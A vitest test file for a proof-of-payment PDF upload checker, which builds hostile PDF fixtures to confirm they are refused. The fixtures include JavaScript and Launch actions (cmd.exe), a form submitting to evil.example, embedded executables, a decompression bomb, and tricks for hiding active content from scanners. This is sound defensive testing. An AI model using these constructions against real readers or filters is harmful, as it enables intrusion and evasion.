import zlib from "node:zlib";
import { getDocument, VerbosityLevel } from "pdfjs-dist/legacy/build/pdf.mjs";
import { afterEach, describe, expect, it, vi } from "vitest";
import { activeContentSeenByPdfjs, checkPdfProof, MAX_PDF_PAGES, type PdfRefusal } from "@/server/storage/pdf-check";
import { inspectPdfStructure, PdfStructureLimitError } from "@/server/storage/pdf-structure";
import { PDF_REFUSAL_MESSAGES } from "@/server/storage/upload-messages";
import { fileOf, makePng } from "../helpers/images";
import { buildPdf, makeProofPdf, rawPdf, type PdfObject } from "../helpers/pdfs";

const text = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");

/** Opens a fixture with pdf.js directly, to show the fixture is what it claims to be. */
async function openWithPdfjs(bytes: Uint8Array, password?: string) {
  const task = getDocument({ data: new Uint8Array(bytes), password, verbosity: VerbosityLevel.ERRORS, useWasm: false, useSystemFonts: false });
  const pdf = await task.promise;
  return { pdf, close: () => task.destroy() };
}

async function expectRefused(bytes: Uint8Array, reason: PdfRefusal) {
  expect(await checkPdfProof(bytes)).toEqual({ ok: false, reason });
}

/** One annotation on the first page, as object 7 of a one-page proof (objects after it follow). */
const withAnnotation = (annotation: string, ...more: PdfObject[]) =>
  makeProofPdf({ firstPage: "/Annots [7 0 R]", extra: () => [annotation, ...more] });

/** Document-level JavaScript: the catalog's /Names tree maps a name to a JavaScript action. */
const documentJavaScript = (objectStream?: "all") =>
  makeProofPdf({
    catalog: "/Names << /JavaScript 7 0 R >>",
    extra: () => ["<< /Names [(init) 8 0 R] >>", '<< /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\)) >>'],
    objectStream,
  });

afterEach(() => {
  vi.restoreAllMocks();
});

describe("checkPdfProof: plain proofs of payment are accepted", () => {
  it("accepts a one-page PDF with text, and reports its page count", async () => {
    const pdf = makeProofPdf();
    const { pdf: opened, close } = await openWithPdfjs(pdf);
    const content = await (await opened.getPage(1)).getTextContent();
    expect(content.items.map((item) => ("str" in item ? item.str : "")).join(" ")).toContain("Proof of payment - page 1");
    await close();
    expect(await checkPdfProof(pdf)).toEqual({ ok: true, pages: 1 });
  });

  it(`accepts ${MAX_PDF_PAGES} pages`, async () => {
    expect(await checkPdfProof(makeProofPdf({ pages: MAX_PDF_PAGES }))).toEqual({ ok: true, pages: MAX_PDF_PAGES });
  });

  it("accepts a PDF 1.5 file whose objects sit in a compressed object stream, found through a predictor-coded xref stream", async () => {
    const pdf = makeProofPdf({ objectStream: "all" });
    expect(text(pdf)).not.toContain("/Catalog"); // really compressed
    expect(await inspectPdfStructure(pdf)).toMatchObject({ undecodable: false, activeContent: [] });
    expect(await checkPdfProof(pdf)).toEqual({ ok: true, pages: 1 });
  });

  it("accepts an /OpenAction that is only a destination, as jsPDF and FPDF write into every file", async () => {
    expect(await checkPdfProof(makeProofPdf({ catalog: "/OpenAction [5 0 R /FitH null]" }))).toEqual({ ok: true, pages: 1 });
    expect(await checkPdfProof(makeProofPdf({ catalog: "/OpenAction 7 0 R", extra: () => ["<< /S /GoTo /D [5 0 R /Fit] >>"] }))).toEqual({
      ok: true,
      pages: 1,
    });
  });

  it("accepts a web link to the bank's site (URI link annotation)", async () => {
    const pdf = withAnnotation("<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.bank.example/) >> >>");
    expect(await checkPdfProof(pdf)).toEqual({ ok: true, pages: 1 });
  });

  it("judges the bytes only: a PDF passes whatever the file is called", async () => {
    for (const name of ["proof.pdf", "proof.png", "POP 14-03.jpeg", "statement", "payment.exe"]) {
      const file = fileOf(makeProofPdf(), name, "application/octet-stream");
      expect(await checkPdfProof(new Uint8Array(await file.arrayBuffer()))).toEqual({ ok: true, pages: 1 });
    }
  });

  it("leaves the caller's bytes intact (pdf.js detaches the buffer it is given)", async () => {
    const pdf = new Uint8Array(makeProofPdf());
    const copy = Uint8Array.from(pdf);
    await checkPdfProof(pdf);
    expect(pdf.byteLength).toBe(copy.byteLength);
    expect(Buffer.from(pdf).equals(Buffer.from(copy))).toBe(true);
  });

  it("fetches nothing, from anywhere, while checking", async () => {
    const fetchSpy = vi.spyOn(globalThis, "fetch");
    await checkPdfProof(makeProofPdf({ pages: 2 }));
    await checkPdfProof(withAnnotation("<< /Type /Annot /Subtype /FreeText /Rect [0 0 100 100] /DA (/Helv 12 Tf 0 g) /Contents (note) >>"));
    expect(fetchSpy).not.toHaveBeenCalled();
  });
});

describe("checkPdfProof: unreadable", () => {
  it("refuses a PNG's bytes, whatever the name says", async () => {
    const png = makePng(8, 8);
    const file = fileOf(png, "proof.pdf", "application/pdf");
    await expectRefused(new Uint8Array(await file.arrayBuffer()), "unreadable");
  });

  it("refuses empty input and text that merely mentions PDF", async () => {
    await expectRefused(new Uint8Array(0), "unreadable");
    await expectRefused(Buffer.from("hello %PDF-1.7\n%%EOF"), "unreadable");
  });

  it("refuses a truncated PDF: cut in half, or missing only its last bytes", async () => {
    const pdf = makeProofPdf({ pages: 3 });
    await expectRefused(pdf.subarray(0, Math.floor(pdf.length / 2)), "unreadable");
    await expectRefused(pdf.subarray(0, pdf.length - 7), "unreadable");
    await expectRefused(pdf.subarray(0, 300), "unreadable");
  });

  it("refuses a corrupt PDF: the right header and end, nothing pdf.js can open in between", async () => {
    const junk = Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 31 + 7) % 256));
    await expectRefused(Buffer.concat([Buffer.from("%PDF-1.7\n"), junk, Buffer.from("\n%%EOF\n")]), "unreadable");
  });

  it("refuses a PDF whose object stream cannot be decoded (objects the scan cannot see)", async () => {
    // The object stream is declared LZW-compressed (which the structure check does not decode).
    const pdf = Buffer.from(text(makeProofPdf({ objectStream: "all" })).replace(/(\/Type \/ObjStm[^>]*)\/FlateDecode/, "$1/LZWDecode"), "latin1");
    expect(text(pdf)).toContain("/LZWDecode");
    expect((await inspectPdfStructure(pdf)).undecodable).toBe(true);
    await expectRefused(pdf, "unreadable");
  });

  it("refuses a decompression bomb in an object stream", async () => {
    const zeros = zlib.deflateSync(Buffer.alloc(80 * 1024 * 1024));
    expect(zeros.length).toBeLessThan(200_000);
    const pdf = makeProofPdf({ extra: () => [{ dict: "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", stream: zeros }] });
    expect((await inspectPdfStructure(pdf)).undecodable).toBe(true);
    await expectRefused(pdf, "unreadable");
  });

  it("refuses absurd nesting rather than recursing without end", async () => {
    const deep = `${"[".repeat(50_000)}${"]".repeat(50_000)}`;
    await expectRefused(makeProofPdf({ extra: () => [deep] }), "unreadable");
  });
});

describe("checkPdfProof: too many pages", () => {
  it(`refuses ${MAX_PDF_PAGES + 1} pages`, async () => {
    await expectRefused(makeProofPdf({ pages: MAX_PDF_PAGES + 1 }), "too_many_pages");
  });
});

describe("checkPdfProof: encrypted", () => {
  it("refuses an RC4-encrypted PDF with an empty user password, which pdf.js opens and decrypts", async () => {
    const pdf = makeProofPdf({ encrypt: {} });
    // The fixture is really encrypted: the title and page text are not in the file as written...
    expect(text(pdf)).not.toContain("Proof of payment");
    expect(text(pdf)).toContain("/Encrypt");
    // ...and pdf.js, with no password, decrypts them.
    const { pdf: opened, close } = await openWithPdfjs(pdf);
    const { info } = await opened.getMetadata();
    expect(info).toMatchObject({ Title: "Proof of payment", EncryptFilterName: "Standard" });
    await close();
    expect((await inspectPdfStructure(pdf)).encrypted).toBe(true);
    await expectRefused(pdf, "encrypted");
  });

  it("refuses a PDF with a user password", async () => {
    const pdf = makeProofPdf({ encrypt: { userPassword: "1234" } });
    await expect(openWithPdfjs(pdf)).rejects.toMatchObject({ name: "PasswordException" });
    const { pdf: opened, close } = await openWithPdfjs(pdf, "1234");
    expect(opened.numPages).toBe(1);
    await close();
    await expectRefused(pdf, "encrypted");
  });

  it("refuses /Encrypt in an xref stream (the PDF 1.5 layout)", async () => {
    const pdf = makeProofPdf({ trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>", objectStream: "all" });
    await expectRefused(pdf, "encrypted");
  });
});

const XFA_PACKET =
  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"/></template></xdp:xdp>';

/**
 * Active content, one kind per fixture, and whether pdf.js's document API reports it on its own
 * (`pdfjs`). Where it does not, only pdf-structure.ts stands between the file and the admin.
 */
const ACTIVE_FIXTURES: { name: string; pdf: () => Buffer; pdfjs: boolean }[] = [
  { name: "document-level JavaScript (/Names JavaScript tree)", pdf: () => documentJavaScript(), pdfjs: true },
  {
    name: "JavaScript run on opening (/OpenAction)",
    pdf: () => makeProofPdf({ catalog: "/OpenAction 7 0 R", extra: () => ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"] }),
    pdfjs: true,
  },
  {
    name: "a Launch action on opening",
    pdf: () => makeProofPdf({ catalog: "/OpenAction 7 0 R", extra: () => ["<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"] }),
    pdfjs: false,
  },
  { name: "a named action on opening (Print)", pdf: () => makeProofPdf({ catalog: "/OpenAction << /S /Named /N /Print >>" }), pdfjs: true },
  {
    name: "a GoTo on opening that chains another action (/Next)",
    pdf: () => makeProofPdf({ catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>" }),
    pdfjs: false,
  },
  {
    name: "document /AA (additional actions) running JavaScript before printing",
    pdf: () => makeProofPdf({ catalog: "/AA << /WP << /S /JavaScript /JS (app.alert\\(2\\)) >> >>" }),
    pdfjs: true,
  },
  { name: "page /AA that is not JavaScript", pdf: () => makeProofPdf({ firstPage: "/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>" }), pdfjs: false },
  { name: "a Launch action in a link annotation", pdf: () => withAnnotation("<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /Launch /F (payload.exe) >> >>"), pdfjs: false },
  {
    name: "JavaScript in a link annotation",
    pdf: () => withAnnotation("<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /JavaScript /JS (this.print\\(\\)) >> >>"),
    pdfjs: false,
  },
  {
    name: "JavaScript in a form field",
    pdf: () =>
      makeProofPdf({
        catalog: "/AcroForm << /Fields [7 0 R] >>",
        firstPage: "/Annots [7 0 R]",
        extra: () => ["<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [72 600 300 620] /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> >> >>"],
      }),
    pdfjs: true,
  },
  {
    name: "a form that submits itself somewhere",
    pdf: () => withAnnotation("<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /SubmitForm /F (https://evil.example/collect) >> >>"),
    pdfjs: false,
  },
  {
    name: "an embedded file (/EmbeddedFiles)",
    pdf: () =>
      makeProofPdf({
        catalog: "/Names << /EmbeddedFiles 7 0 R >>",
        extra: () => [
          "<< /Names [(invoice.exe) 8 0 R] >>",
          "<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 9 0 R >> >>",
          { dict: "/Type /EmbeddedFile", stream: "MZ\x90\x00 not really a program" },
        ],
      }),
    pdfjs: true,
  },
  {
    name: "a FileAttachment annotation",
    pdf: () =>
      withAnnotation("<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 8 0 R /Contents (receipt) >>", "<< /Type /Filespec /F (receipt.js) /EF << /F 9 0 R >> >>", {
        dict: "/Type /EmbeddedFile",
        stream: "WScript.Echo(1)",
      }),
    pdfjs: true,
  },
  { name: "an XFA form", pdf: () => makeProofPdf({ catalog: "/AcroForm << /Fields [] /XFA 7 0 R >>", extra: () => [{ dict: "", stream: XFA_PACKET }] }), pdfjs: true },
  { name: "a PDF portfolio (/Collection)", pdf: () => makeProofPdf({ catalog: "/Collection << /Type /Collection /View /T >>" }), pdfjs: true },
  ...["RichMedia", "Movie", "Sound", "Screen"].map((subtype) => ({
    name: `a ${subtype} annotation`,
    pdf: () => withAnnotation(`<< /Type /Annot /Subtype /${subtype} /Rect [0 0 100 100] >>`),
    pdfjs: true,
  })),
];

describe("checkPdfProof: active content", () => {
  it.each(ACTIVE_FIXTURES)("refuses $name", async ({ pdf: make, pdfjs }) => {
    const pdf = make();
    await expectRefused(pdf, "active_content");
    // The object scan always sees it; pdf.js's API only sometimes.
    expect((await inspectPdfStructure(pdf)).activeContent).not.toEqual([]);
    const { pdf: opened, close } = await openWithPdfjs(pdf);
    expect((await activeContentSeenByPdfjs(opened)).length > 0).toBe(pdfjs);
    await close();
  });

  it("sees names however they are spelled: /J#61vaScript is /JavaScript", async () => {
    const pdf = Buffer.from(text(documentJavaScript()).replaceAll("/JavaScript", "/J#61vaScript").replace("/JS", "/J#53"), "latin1");
    expect(text(pdf)).not.toMatch(/\/JavaScript|\/JS\b/);
    expect((await inspectPdfStructure(pdf)).activeContent).toContain("JavaScript");
    await expectRefused(pdf, "active_content");
  });

  it("is not a byte regex: JavaScript inside a FlateDecode object stream is found", async () => {
    const pdf = documentJavaScript("all");
    expect(text(pdf)).not.toMatch(/JavaScript|\/JS\b|app\.launchURL/);
    const scan = await inspectPdfStructure(pdf);
    expect(scan.objectCount).toBeGreaterThanOrEqual(9);
    expect(scan.activeContent).toContain("JavaScript");
    await expectRefused(pdf, "active_content");
  });

  it("finds JavaScript in an object stream that does not say it is one (pdf.js does not check /Type)", async () => {
    // Blanked rather than removed, so every offset stays right.
    const pdf = Buffer.from(text(documentJavaScript("all")).replace("/Type /ObjStm", " ".repeat("/Type /ObjStm".length)), "latin1");
    expect(text(pdf)).not.toContain("ObjStm");
    const { pdf: opened, close } = await openWithPdfjs(pdf);
    expect(await opened.getJSActions()).not.toBeNull();
    await close();
    expect((await inspectPdfStructure(pdf)).activeContent).toContain("JavaScript");
    await expectRefused(pdf, "active_content");
  });

  it("is not a byte regex: a Launch OpenAction inside an object stream is found, though pdf.js reports nothing", async () => {
    const pdf = makeProofPdf({ catalog: "/OpenAction 7 0 R", extra: () => ["<< /S /Launch /F (cmd.exe) >>"], objectStream: "all" });
    expect(text(pdf)).not.toMatch(/Launch|OpenAction/);
    const { pdf: opened, close } = await openWithPdfjs(pdf);
    expect(await opened.getOpenAction()).toBeNull();
    await close();
    expect((await inspectPdfStructure(pdf)).activeContent).toContain("OpenAction (Launch)");
    await expectRefused(pdf, "active_content");
  });

  it("finds an object hidden inside another object's string, where only the xref points", async () => {
    const body =
      "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n" +
      "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n" +
      "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n" +
      // Object 5's header carries comments, which pdf.js's lexer skips when it follows the xref.
      // (The "1" keeps pdf.js's two-token lookahead after "endobj" off the string's closing parenthesis.)
      "4 0 obj\n(decoy 5 %x\n0 %y\nobj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj 1)\nendobj\n";
    const pdf = rawPdf(body, { 1: "1 0 obj", 2: "2 0 obj", 3: "3 0 obj", 4: "4 0 obj", 5: "5 %x" });
    const { pdf: opened, close } = await openWithPdfjs(pdf);
    expect(await opened.getJSActions()).not.toBeNull(); // pdf.js does read it
    await close();
    expect((await inspectPdfStructure(pdf)).activeContent).toContain("JavaScript");
    await expectRefused(pdf, "active_content");
  });

  it("finds an object hidden inside another object's stream data", async () => {
    const hidden = "9 0 obj << /S /Launch /F (cmd.exe) >> endobj";
    const pdf = makeProofPdf({ extra: () => [{ dict: "/Subtype /XML", stream: `decoy ${hidden} decoy` }] });
    expect((await inspectPdfStructure(pdf)).activeContent).toContain("Launch action");
    await expectRefused(pdf, "active_content");
  });
});

describe("inspectPdfStructure: no false alarms from page content", () => {
  it("ignores names in content streams and images (a logo's bytes may spell anything)", async () => {
    const content = "BT /F1 12 Tf 72 700 Td (Pay via /JavaScript or /Launch? No: EFT) Tj ET /Screen BMC EMC";
    const noisyImage = Buffer.from("  /AA /JS /EF /Sound  ".repeat(50));
    const pdf = makeProofPdf({
      extra: () => [{ dict: "", stream: content }, { dict: "/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8", stream: noisyImage }],
    });
    expect((await inspectPdfStructure(pdf)).activeContent).toEqual([]);
    expect(await checkPdfProof(pdf)).toEqual({ ok: true, pages: 1 });
  });

  it("is not fooled by names that are also JavaScript object properties", async () => {
    const pdf = makeProofPdf({ catalog: "/PieceInfo << /constructor << /__proto__ /toString /hasOwnProperty 1 >> >>" });
    expect((await inspectPdfStructure(pdf)).activeContent).toEqual([]);
    expect(await checkPdfProof(pdf)).toEqual({ ok: true, pages: 1 });
  });
});

describe("inspectPdfStructure: bounded on hostile input", () => {
  const wrap = (body: string) => Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`, "latin1");

  it("reads junk between objects in linear time (pdf-lib's document loader takes minutes on this)", async () => {
    const pdf = wrap(`1 0 obj\n<< /Type /Catalog >>\nendobj\nx ${"1".repeat(200_000)} x`);
    const started = Date.now();
    await expectRefused(pdf, "unreadable");
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it("gives up on objects nested in each other's strings once it has read more than any proof needs", async () => {
    const depth = 100_000;
    const pdf = wrap(`1 0 obj ${"(1 0 obj ".repeat(depth)}${")".repeat(depth)}\nendobj`);
    await expect(inspectPdfStructure(pdf)).rejects.toBeInstanceOf(PdfStructureLimitError);
    await expectRefused(pdf, "unreadable");
  });

  it("gives up on a million values, and past its time limit", async () => {
    const names = wrap(`1 0 obj [${Array.from({ length: 600_000 }, (_, i) => `/n${i}`).join(" ")}]\nendobj`);
    await expect(inspectPdfStructure(names)).rejects.toThrow(/values/);
    await expect(inspectPdfStructure(makeProofPdf(), { timeoutMs: -1 })).rejects.toThrow(/time/);
  });

  it("does not log numbers too large for pdf-lib, one line per number", async () => {
    const warn = vi.spyOn(console, "warn");
    const pdf = makeProofPdf({ extra: () => [`[${"123456789012345678901234567890 ".repeat(1000)}]`] });
    expect((await inspectPdfStructure(pdf)).undecodable).toBe(true);
    expect(warn).not.toHaveBeenCalled();
  });
});

describe("PDF refusal messages", () => {
  it("has a message the customer can act on for every refusal", () => {
    const reasons: PdfRefusal[] = ["unreadable", "encrypted", "too_many_pages", "active_content"];
    for (const reason of reasons) expect(PDF_REFUSAL_MESSAGES[reason]).toMatch(/Please/);
    expect(PDF_REFUSAL_MESSAGES.too_many_pages).toContain(String(MAX_PDF_PAGES));
    expect(PDF_REFUSAL_MESSAGES.active_content).toBe(
      "This PDF contains scripts or attachments, which we can't accept. Please upload the proof as saved from your banking app, or a screenshot of it.",
    );
    expect(PDF_REFUSAL_MESSAGES.encrypted).toBe("This PDF is password-protected. Please upload an unprotected copy or a screenshot.");
    expect(PDF_REFUSAL_MESSAGES.unreadable).toBe("We couldn't open this PDF. Please upload it again or send a screenshot.");
  });
});

describe("buildPdf fixtures", () => {
  it("writes cross-reference offsets that point at their objects", () => {
    const pdf = buildPdf({ objects: { 1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [] /Count 0 >>" } });
    const source = text(pdf);
    const xrefAt = Number(/startxref\n(\d+)/.exec(source)![1]);
    expect(source.startsWith("xref", xrefAt)).toBe(true);
    const offsets = [...source.slice(xrefAt).matchAll(/(\d{10}) 00000 n/g)].map((m) => Number(m[1]));
    expect(offsets.map((o) => source.slice(o, o + 7))).toEqual(["1 0 obj", "2 0 obj"]);
  });
});
